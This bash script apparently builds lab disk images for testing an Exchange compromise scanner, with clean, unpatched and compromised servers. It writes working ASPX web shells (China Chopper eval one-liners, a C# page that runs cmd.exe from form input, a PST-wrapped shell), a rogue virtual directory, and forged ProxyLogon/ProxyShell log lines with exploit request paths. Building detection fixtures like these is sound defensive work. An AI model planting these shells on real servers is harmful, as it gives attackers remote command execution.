#!/usr/bin/env bash
# Builds the bundled lab's file system images under DIR (default: ./lab-images):
#   clean-se/           Exchange SE, patched, nothing planted, ordinary logs
#   vuln-2016/          Exchange 2016 CU19 without updates, nothing planted
#   patched-pwned/      Exchange 2019 CU15, fully patched, but a China Chopper shell in
#                       aspnet_client and ProxyLogon traces from before it was patched
#   proxyshell-pwned/   Exchange 2016 CU19 May21SU, ProxyShell: a PST-encoded shell written
#                       by a mailbox export, a rogue virtual directory, and the IIS logs
# The shells here are written for this lab from the public indicators in the field notes
# (families' tells), not copied from any sample. Usage: make-lab.sh [DIR]
set -euo pipefail
OUT=${1:-lab-images}
rm -rf "$OUT"
mkdir -p "$OUT"

V15="Program Files/Microsoft/Exchange Server/V15"
TMPASP="Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"

# layout HOST BUILD: an Exchange-like system drive with benign pages and config
layout() {
	local r="$OUT/$1" build=$2
	mkdir -p "$r/inetpub/wwwroot/aspnet_client/system_web" \
		"$r/inetpub/logs/LogFiles/W3SVC1" \
		"$r/$V15/FrontEnd/HttpProxy/owa/auth/Current/themes/resources" \
		"$r/$V15/FrontEnd/HttpProxy/owa/auth/$build/themes/resources" \
		"$r/$V15/FrontEnd/HttpProxy/ecp/auth" \
		"$r/$V15/ClientAccess/Owa/$build" "$r/$V15/ClientAccess/ecp" "$r/$V15/ClientAccess/OAB" \
		"$r/$V15/Logging/HttpProxy/Owa" "$r/$V15/Logging/HttpProxy/Ecp" \
		"$r/$V15/Logging/HttpProxy/Autodiscover" "$r/$V15/Logging/ECP/Server" \
		"$r/$V15/Logging/OABGeneratorLog" "$r/$V15/Bin" \
		"$r/$TMPASP/owa" "$r/Windows/System32/inetsrv/config" "$r/ProgramData/Microsoft" \
		"$r/Windows/Temp"
	cat >"$r/$V15/FrontEnd/HttpProxy/owa/auth/logon.aspx" <<'ASPX'
<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import Namespace="Microsoft.Exchange.Clients.Owa.Core" %>
<!DOCTYPE html>
<html><head><title>Outlook</title>
<!-- OwaPage = ASP.auth_logon_aspx -->
<link rel="shortcut icon" href="/owa/auth/current/themes/resources/favicon.ico">
</head><body>
<form action="/owa/auth.owa" method="POST" name="logonForm">
<input type="hidden" name="destination" value="<%=Destination%>">
<input type="text" name="username"><input type="password" name="password">
</form></body></html>
ASPX
	cp "$r/$V15/FrontEnd/HttpProxy/owa/auth/logon.aspx" "$r/$V15/FrontEnd/HttpProxy/owa/auth/logoff.aspx"
	cat >"$r/$V15/FrontEnd/HttpProxy/owa/auth/errorFE.aspx" <<'ASPX'
<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>
<html><body><div id="errMsg"><%= Server.HtmlEncode(ErrorMessage) %></div></body></html>
ASPX
	printf 'body{font-family:"Segoe UI"}\n' >"$r/$V15/FrontEnd/HttpProxy/owa/auth/$build/themes/resources/logon.css"
	printf '\x00\x00\x01\x00\x01\x00\x10\x10' >"$r/$V15/FrontEnd/HttpProxy/owa/auth/$build/themes/resources/favicon.ico"
	cat >"$r/$V15/ClientAccess/Owa/web.config" <<'XML'
<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <system.web><compilation debug="false" targetFramework="4.8" /></system.web>
  <appSettings><add key="Version" value="BUILD" /></appSettings>
</configuration>
XML
	sed -i "s/BUILD/$build/" "$r/$V15/ClientAccess/Owa/web.config"
	# compiled pages of Exchange's own (benign): a PE header and a virtual path
	printf 'MZ\x90\x00\x03\x00\x00\x00' >"$r/$TMPASP/owa/App_Web_logon.aspx.cdcab7d2.dll"
	printf '%s' "This program cannot be run in DOS mode. ~/auth/logon.aspx Microsoft.Exchange.Clients" \
		>>"$r/$TMPASP/owa/App_Web_logon.aspx.cdcab7d2.dll"
	cat >"$r/Windows/System32/inetsrv/config/applicationHost.config" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/" applicationPool="DefaultAppPool">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
        </application>
        <application path="/owa" applicationPool="MSExchangeOWAAppPool">
          <virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa" />
        </application>
      </site>
    </sites>
  </system.applicationHost>
</configuration>
XML
	printf 'MZ\x90\x00' >"$r/$V15/Bin/Microsoft.Exchange.Data.dll"
}

HP_SEQ=0
HP_HEADER="DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,UrlQuery,GenericInfo,GenericErrors"
# hp_line TIME PROTOCOL STEM AUTHUSER ANCHOR UA CLIENT STATUS METHOD
hp_line() {
	printf '%s,%s,15,2,1748,43,,%s,mail.lab.local,%s,,,%s,%s,,%s,%s,%s,EXCH01,%s,%s,,%s,,EXCH01.lab.local,,,,,,,,,,,\r\n' \
		"$1" "$(printf '%08x-aaaa-bbbb-cccc-%012d' "$((++HP_SEQ))" "$HP_SEQ")" "$2" "$3" \
		"$([ -n "$4" ] && echo True || echo False)" "$4" "$5" "$6" "$7" "$8" "$8" "$9"
}

IIS_HEADER='#Software: Microsoft Internet Information Services 10.0
#Version: 1.0
#Date: DATE
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'

benign_logs() {
	local r="$OUT/$1" day=$2
	{
		printf '%s\r\n' "$HP_HEADER"
		hp_line "${day}T08:00:01.000Z" Owa /owa/ "LAB\\alice" "SMTP:alice@lab.local" "Mozilla/5.0+(Windows+NT+10.0)" 10.0.0.21 200 GET
		hp_line "${day}T08:00:02.000Z" Owa /owa/auth/logon.aspx "" "" "Mozilla/5.0+(Windows+NT+10.0)" 10.0.0.22 200 GET
		# exscan's own safe ProxyLogon probe: must not count as an attack
		hp_line "${day}T08:05:00.000Z" Owa /owa/auth/x.js "" "ServerInfo~localhost/owa/auth/logon.aspx?~3" "exscan/0.1" 10.0.0.5 500 GET
	} >"$r/$V15/Logging/HttpProxy/Owa/HttpProxy_${day//-/}08-1.LOG"
	{
		printf '%s\n' "${IIS_HEADER/DATE/$day 08:00:00}"
		printf '%s 08:00:01 10.0.0.10 GET /owa/ - 443 - 10.0.0.21 Mozilla/5.0+(Windows+NT+10.0) - 302 0 0 15\n' "$day"
		printf '%s 08:00:02 10.0.0.10 POST /owa/auth.owa - 443 - 10.0.0.21 Mozilla/5.0+(Windows+NT+10.0) - 302 0 0 31\n' "$day"
		printf '%s 08:01:00 10.0.0.10 POST /EWS/Exchange.asmx - 443 LAB\\alice 10.0.0.21 Microsoft+Office/16.0 - 200 0 0 12\n' "$day"
	} >"$r/inetpub/logs/LogFiles/W3SVC1/u_ex${day//-/}.log"
}

# --- clean, patched Exchange SE
layout clean-se 15.2.2562.57
benign_logs clean-se 2026-09-01

# --- vulnerable, unpatched Exchange 2016 CU19 (nothing planted: the probe decides)
layout vuln-2016 15.1.2176.2
benign_logs vuln-2016 2021-02-20

# --- patched but compromised: Exchange 2019 CU15 latest, shell left from 2021
layout patched-pwned 15.2.1748.49
benign_logs patched-pwned 2026-09-01
R="$OUT/patched-pwned"
# China Chopper (JScript) one-liner dropped by the HAFNIUM wave
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["orangeb"],"unsafe");%%>' \
	>"$R/inetpub/wwwroot/aspnet_client/system_web/zxc.aspx"
# a C# variant that writes uploaded files
cat >"$R/$V15/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/errorEE.aspx" <<'ASPX'
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
  if (Request.Files.Count > 0) { Request.Files[0].SaveAs(Server.MapPath(".") + "\\" + Request.Form["n"]); }
  System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);
}
</script>
ASPX
{
	printf '%s\r\n' "$HP_HEADER"
	hp_line "2021-03-03T02:10:11.000Z" Ecp /ecp/y.js "" "ServerInfo~a]@EXCH01.lab.local:444/mapi/emsmdb/?#" "python-requests/2.25.1" 203.0.113.7 200 POST
	hp_line "2021-03-03T02:10:15.000Z" Ecp /ecp/DDI/DDIService.svc/SetObject "" "ServerInfo~a]@EXCH01.lab.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x&a=~1942062522#" "python-requests/2.25.1" 203.0.113.7 200 POST
} >"$R/$V15/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG"
printf '2021-03-03T02:10:16.000Z,EXCH01,ECP.Request,S:TIME=120;S:SID=x;S:CMD=Set-OabVirtualDirectory.ExternalUrl='"'"'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'"'"'.Identity='"'"'x'"'"'\r\n' \
	>"$R/$V15/Logging/ECP/Server/ECPServer2021030302-1.LOG"

# --- ProxyShell-compromised Exchange 2016 CU19 without the April 2021 update (ProxyShell
# was fixed by Apr21SU): exploited in August 2021
layout proxyshell-pwned 15.1.2176.9
benign_logs proxyshell-pwned 2021-08-10
R="$OUT/proxyshell-pwned"
# A mailbox export written as .aspx: a PST (magic !BDN) whose text carries the page
{
	printf '!BDN\x0e\x01\x00\x00SM\x15\x00\x13\x00\x01\x01'
	head -c 512 /dev/zero
	printf '<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'
	head -c 256 /dev/zero
} >"$R/inetpub/wwwroot/aspnet_client/shell.aspx"
mkdir -p "$R/ProgramData/COM"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["p"],"unsafe");%%>' >"$R/ProgramData/COM/a.aspx"
python3 - "$R/Windows/System32/inetsrv/config/applicationHost.config" <<'PY'
import sys
p = sys.argv[1]
s = open(p).read()
s = s.replace("      </site>", """        <application path="/owa/auth/COM" applicationPool="MSExchangeOWAAppPool">
          <virtualDirectory path="/" physicalPath="C:\\ProgramData\\COM" />
        </application>
      </site>""")
open(p, "w").write(s)
PY
{
	printf '%s\n' "${IIS_HEADER/DATE/2021-08-10 00:00:00}"
	printf '2021-08-10 03:11:02 10.0.0.10 GET /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%%3F@evil.com 443 - 198.51.100.23 python-requests/2.25.1 - 200 0 0 44\n'
	printf '2021-08-10 03:11:09 10.0.0.10 POST /autodiscover/autodiscover.json @evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%%3F@evil.com 443 - 198.51.100.23 python-requests/2.25.1 - 200 0 0 310\n'
	printf '2021-08-10 03:12:30 10.0.0.10 POST /aspnet_client/shell.aspx - 443 - 198.51.100.23 antSword/v2.1 - 200 0 0 15\n'
} >"$R/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log"

echo "lab images in $OUT: $(ls "$OUT" | tr '\n' ' ')"
